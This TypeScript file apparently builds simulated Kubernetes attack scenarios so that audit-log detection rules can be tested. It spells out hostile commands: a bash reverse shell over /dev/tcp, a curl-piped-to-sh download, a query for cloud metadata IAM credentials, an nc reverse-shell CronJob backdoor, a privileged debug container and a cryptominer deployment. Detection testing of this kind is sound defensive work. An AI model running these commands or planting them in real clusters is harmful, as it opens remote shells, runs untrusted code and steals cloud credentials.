/** Running something in the cluster: sessions, debug containers, schedules. */
import { ACTORS, PEOPLE } from '../cluster.ts';
import type { Ref } from '../request.ts';
import { APPS, BATCH, creates, exec, patches, template } from './actions.ts';
import { type Storyline, step } from './types.ts';

const [, bob, , dave, erin] = PEOPLE;
const shopPod: Ref = { resource: 'pods', namespace: 'shop', name: 'web-5d9c8b7f46-q2w8x' };

/** The session itself is not in the log: its first command is all there is. */
export const reverseShell: Storyline = {
  name: 'reverse-shell',
  summary: 'dave has a pod of shop connect back to him with a shell, by an exec over WebSocket',
  attack: ['T1609', 'T1059.004'],
  actor: dave.username,
  mustFire: { metadata: ['pod-exec-reverse-shell', 'exec-into-pod'] },
  steps: [
    step(0, dave, 'list', { resource: 'pods', namespace: 'shop' }),
    exec(25, dave, shopPod, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1'),
  ],
};

export const toolDownload: Storyline = {
  name: 'tool-download',
  summary: 'erin fetches a program into a running pod and looks at the credentials of the cloud',
  attack: ['T1609', 'T1105', 'T1552.005'],
  actor: erin.username,
  mustFire: { metadata: ['pod-exec-download', 'pod-exec-cloud-metadata', 'exec-into-pod'] },
  steps: [
    exec(0, erin, shopPod, 'sh', '-c', 'curl -fsSL https://203.0.113.66/kit.sh | sh'),
    exec(40, erin, shopPod, 'curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  ],
};

/** Pods cannot be changed, but for this. */
export const debugContainer: Storyline = {
  name: 'debug-container',
  summary: 'bob puts a privileged ephemeral container into a running pod and attaches to it',
  attack: ['T1609', 'T1611'],
  actor: bob.username,
  mustFire: { metadata: ['ephemeral-container-added', 'exec-into-pod'], mixed: ['privileged-pod-created'] },
  steps: [
    step(0, bob, 'get', shopPod),
    patches(
      12,
      bob,
      { ...shopPod, subresource: 'ephemeralcontainers' },
      {
        spec: {
          ephemeralContainers: [
            {
              name: 'debugger-x7k2p',
              image: 'docker.io/library/busybox:1.37',
              stdin: true,
              tty: true,
              securityContext: { privileged: true },
            },
          ],
        },
      },
    ),
    step(15, bob, 'get', { ...shopPod, subresource: 'attach' }, { code: 101, lastsMs: 300_000 }),
  ],
};

/** It comes back every night. */
export const cronBackdoor: Storyline = {
  name: 'cron-backdoor',
  summary: "The pipeline's account writes a CronJob that connects back with a shell every night",
  attack: ['T1053.007', 'T1059.004'],
  actor: ACTORS.deployer.username,
  mustFire: { metadata: ['job-or-cronjob-changed'], mixed: ['reverse-shell-in-pod-spec'] },
  steps: [
    creates(
      0,
      ACTORS.deployer,
      'CronJob',
      { ...BATCH, resource: 'cronjobs', namespace: 'staging', name: 'cache-warmer' },
      {
        spec: {
          schedule: '17 3 * * *',
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  restartPolicy: 'OnFailure',
                  initContainers: [
                    {
                      name: 'warm',
                      image: 'registry.example.com/worker:1.12',
                      command: ['sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.66 8443 > /tmp/f'],
                    },
                  ],
                  containers: [{ name: 'done', image: 'registry.example.com/worker:1.12' }],
                },
              },
            },
          },
        },
      },
    ),
  ],
};

export const cryptominer: Storyline = {
  name: 'cryptominer',
  summary: 'erin writes a Deployment whose image is a miner, and scales it up',
  attack: ['T1610', 'T1496.001'],
  actor: erin.username,
  mustFire: { mixed: ['suspicious-image-or-name'] },
  steps: [
    creates(
      0,
      erin,
      'Deployment',
      { ...APPS, resource: 'deployments', namespace: 'monitoring', name: 'metrics-agent' },
      {
        spec: {
          replicas: 1,
          ...template('metrics-agent', {
            containers: [
              { name: 'agent', image: 'docker.io/somebody/xmrig:6.22', resources: { limits: { cpu: '16' } } },
            ],
          }),
        },
      },
    ),
    patches(
      60,
      erin,
      { ...APPS, resource: 'deployments', namespace: 'monitoring', name: 'metrics-agent', subresource: 'scale' },
      { spec: { replicas: 40 } },
    ),
  ],
};
